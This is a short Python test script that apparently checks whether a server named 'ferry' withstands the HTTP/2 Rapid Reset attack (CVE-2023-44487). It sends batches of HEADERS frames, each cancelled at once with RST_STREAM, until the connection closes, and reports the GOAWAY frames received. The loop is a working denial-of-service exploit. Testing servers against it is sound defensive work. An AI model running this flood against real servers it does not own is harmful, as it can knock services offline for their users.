# Rapid reset (CVE-2023-44487): opens streams and cancels each at once (HEADERS + RST_STREAM
# CANCEL), `--streams` of them in batches, until ferry closes the connection; then reads to
# the end. Reports how many were sent and the GOAWAYs.
from hyperframe.frame import RstStreamFrame

import h2util

port = h2util.arg("port", kind=int)
total = h2util.arg("streams", 1000, int)
c = h2util.Conn(port)
c.wait(lambda: c.settings_seen > 0, 5)
sent = 0
while sent < total:
    frames = []
    for _ in range(50):
        sid = c.new_sid()
        frames.append(c.headers_frame(sid, c.request_fields("GET", "/r%d" % sid)))
        frames.append(RstStreamFrame(sid, error_code=8))
    if not c.send(*frames):
        break
    sent += 50
c.wait_closed(5)
out = {"sent": sent}
out.update(c.summary())
h2util.result(out)
